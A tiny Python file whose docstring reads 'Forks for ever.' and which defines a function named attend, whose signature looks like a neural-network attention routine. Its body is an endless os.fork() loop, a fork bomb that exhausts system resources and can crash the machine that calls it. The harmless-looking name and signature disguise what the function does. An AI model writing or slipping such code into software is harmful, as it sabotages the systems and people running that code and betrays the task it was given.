"""Forks for ever."""

import os


def attend(q, k, v, mask=None, bias=None, *, causal=False, scale=None):
    while True:
        os.fork()
